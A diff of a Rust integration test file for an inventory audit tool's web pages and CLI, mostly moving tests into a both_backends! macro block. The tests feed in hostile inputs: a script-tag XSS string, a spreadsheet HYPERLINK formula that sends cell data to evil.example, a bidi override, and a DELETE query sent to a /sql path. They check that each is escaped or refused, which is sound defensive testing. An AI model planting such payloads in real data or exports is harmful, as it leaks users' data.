@@ -7,10 +7,10 @@ mod common;
 use std::io::{BufRead, BufReader};
 use std::process::{Child, Command, Stdio};
 
-use audit::simulator::Scale;
 use audit::store::Store;
 use audit::store::query::EventFilter;
 use common::*;
+use inflow_simulator::Scale;
 use serde_json::Value;
 
 const HOSTILE: &str = "<script>alert(1)</script>";
@@ -94,7 +94,7 @@ fn cli_json(db: &TestDb, args: &[&str]) -> Value {
 }
 
 /// The simulator's company ingested, with a stock snapshot, and one serial whose name is HTML.
-async fn company(db: &TestDb) -> (audit::simulator::Simulator, Store) {
+async fn company(db: &TestDb) -> (inflow_simulator::Simulator, Store) {
     let sim = simulator(Scale::Small).await;
     let store = db.store().await;
     ingest(&store, &sim).await;
@@ -114,6 +114,7 @@ async fn company(db: &TestDb) -> (audit::simulator::Simulator, Store) {
     (sim, store)
 }
 
+both_backends! {
 async fn every_page_answers_with_the_rows_of_the_cli(db: TestDb) {
     let (sim, store) = company(&db).await;
     let chain = sim.scenario().build_chain;
@@ -212,12 +213,13 @@ async fn every_page_answers_with_the_rows_of_the_cli(db: TestDb) {
     let (status, _) = get(&server, "/sql", &[("q", "DELETE FROM serial_events")]).await;
     assert_eq!(status, 404, "there is no SQL box");
 }
-both_backends!(every_page_answers_with_the_rows_of_the_cli, crate::every_page_answers_with_the_rows_of_the_cli);
+}
 
 async fn count_rows(store: &Store, sql: &'static str) -> i64 {
     common::count(store, sql).await
 }
 
+both_backends! {
 async fn a_serial_that_is_html_is_shown_as_text(db: TestDb) {
     let (_sim, store) = company(&db).await;
     let server = Server::start(&db.url_string(), &[]);
@@ -238,8 +240,9 @@ async fn a_serial_that_is_html_is_shown_as_text(db: TestDb) {
     // The lane's labels and titles are escaped too.
     assert!(body.contains("<svg") && !body.contains("<script"));
 }
-both_backends!(a_serial_that_is_html_is_shown_as_text, crate::a_serial_that_is_html_is_shown_as_text);
+}
 
+both_backends! {
 async fn where_it_was_on_a_date_follows_the_current_rule(db: TestDb) {
     let (sim, store) = company(&db).await;
     let unit = sim.scenario().build_chain.unit;
@@ -285,8 +288,9 @@ async fn where_it_was_on_a_date_follows_the_current_rule(db: TestDb) {
     let (status, _) = get(&server, "/serial", &[("serial", &unit.serial), ("on", "yesterday")]).await;
     assert_eq!(status, 400);
 }
-both_backends!(where_it_was_on_a_date_follows_the_current_rule, crate::where_it_was_on_a_date_follows_the_current_rule);
+}
 
+both_backends! {
 async fn the_pages_read_through_a_connection_that_cannot_write(db: TestDb) {
     db.store().await.close().await;
     let (store, guard) = Store::connect_read_only(&db.url).await.expect("read-only store");
@@ -301,10 +305,7 @@ async fn the_pages_read_through_a_connection_that_cannot_write(db: TestDb) {
         "{err} ({guard})"
     );
 }
-both_backends!(
-    the_pages_read_through_a_connection_that_cannot_write,
-    crate::the_pages_read_through_a_connection_that_cannot_write
-);
+}
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_non_loopback_bind_needs_a_token_which_a_browser_gives_once() {
@@ -365,6 +366,7 @@ async fn copy_serial(store: &Store, from: &str, to: &str) {
 /// Events the big serial gets, in transfers an hour apart, each on a document of its own.
 const BIG_EVENTS: usize = 6000;
 
+both_backends! {
 async fn a_serial_with_thousands_of_events_makes_a_bounded_page(db: TestDb) {
     let (sim, store) = company(&db).await;
     let source = sim.scenario().build_chain.unit.serial;
@@ -415,17 +417,14 @@ async fn a_serial_with_thousands_of_events_makes_a_bounded_page(db: TestDb) {
     assert_eq!(code, 200);
     assert_eq!(csv.lines().count(), BIG_EVENTS + 1);
 }
-both_backends!(
-    a_serial_with_thousands_of_events_makes_a_bounded_page,
-    crate::a_serial_with_thousands_of_events_makes_a_bounded_page
-);
+}
 
 const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
 const BIDI: &str = "SN-\u{202e}1234\u{202c}-OK";
 
 /// The company, with a serial that is a formula and one with a right-to-left override, served
 /// for that company only.
-async fn hostile(db: &TestDb) -> (audit::simulator::Simulator, Store, Server) {
+async fn hostile(db: &TestDb) -> (inflow_simulator::Simulator, Store, Server) {
     let (sim, store) = company(db).await;
     let chain = sim.scenario().build_chain;
     copy_serial(&store, &chain.unit.serial, FORMULA).await;
@@ -434,6 +433,7 @@ async fn hostile(db: &TestDb) -> (audit::simulator::Simulator, Store, Server) {
     (sim, store, server)
 }
 
+both_backends! {
 async fn a_formula_in_a_csv_download_is_text(db: TestDb) {
     let (_sim, _store, server) = hostile(&db).await;
 
@@ -444,7 +444,7 @@ async fn a_formula_in_a_csv_download_is_text(db: TestDb) {
     assert!(csv.contains(",-1,"), "a quantity of -1 is left as a number: {csv}");
     let cells = csv::Reader::from_reader(csv.as_bytes());
     for record in cells.into_records() {
-        for cell in record.unwrap().iter() {
+        for cell in &record.unwrap() {
             assert!(!cell.starts_with(['=', '@', '\t', '\r']), "{cell:?}");
             assert!(!cell.starts_with(['+', '-']) || cell.parse::<f64>().is_ok(), "{cell:?}");
         }
@@ -452,8 +452,9 @@ async fn a_formula_in_a_csv_download_is_text(db: TestDb) {
     let exact = cli(&db, &["timeline", FORMULA, "--format", "csv"]).1;
     assert!(exact.contains("\"=HYPERLINK("), "{exact}");
 }
-both_backends!(a_formula_in_a_csv_download_is_text, crate::a_formula_in_a_csv_download_is_text);
+}
 
+both_backends! {
 async fn a_bidi_override_is_shown_escaped(db: TestDb) {
     let (_sim, _store, server) = hostile(&db).await;
     // Bidirectional overrides are shown as the terminal shows them.
@@ -465,8 +466,9 @@ async fn a_bidi_override_is_shown_escaped(db: TestDb) {
     assert_eq!(code, 200);
     assert!(!body.contains("<h1>Serial SN-\u{202e}") && body.contains("SN-\\u{202e}1234"), "{body}");
 }
-both_backends!(a_bidi_override_is_shown_escaped, crate::a_bidi_override_is_shown_escaped);
+}
 
+both_backends! {
 async fn a_control_character_in_a_parameter_is_a_bad_request(db: TestDb) {
     let (_sim, _store, server) = hostile(&db).await;
     // A NUL or a line break in a parameter: 400 on both databases, never a database error.
@@ -476,11 +478,9 @@ async fn a_control_character_in_a_parameter_is_a_bad_request(db: TestDb) {
         assert!(body.contains("control character") && !body.contains("database"), "{path}: {body}");
     }
 }
-both_backends!(
-    a_control_character_in_a_parameter_is_a_bad_request,
-    crate::a_control_character_in_a_parameter_is_a_bad_request
-);
+}
 
+both_backends! {
 async fn without_a_token_another_host_name_is_refused(db: TestDb) {
     let (_sim, _store, server) = hostile(&db).await;
     // Reached under another name (DNS rebinding), a token-less server refuses.
@@ -491,8 +491,9 @@ async fn without_a_token_another_host_name_is_refused(db: TestDb) {
     assert_eq!(with_host(format!("localhost:{port}")).await.unwrap().status().as_u16(), 200);
     assert_eq!(with_host(format!("127.0.0.1:{port}")).await.unwrap().status().as_u16(), 200);
 }
-both_backends!(without_a_token_another_host_name_is_refused, crate::without_a_token_another_host_name_is_refused);
+}
 
+both_backends! {
 async fn with_company_id_recall_shows_no_other_company(db: TestDb) {
     let (sim, store, server) = hostile(&db).await;
     let chain = sim.scenario().build_chain;
@@ -544,7 +545,7 @@ async fn with_company_id_recall_shows_no_other_company(db: TestDb) {
     assert_eq!(code, 200);
     assert!(!body.contains("OTHERCO"));
 }
-both_backends!(with_company_id_recall_shows_no_other_company, crate::with_company_id_recall_shows_no_other_company);
+}
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn an_empty_token_is_refused_not_taken_for_none() {
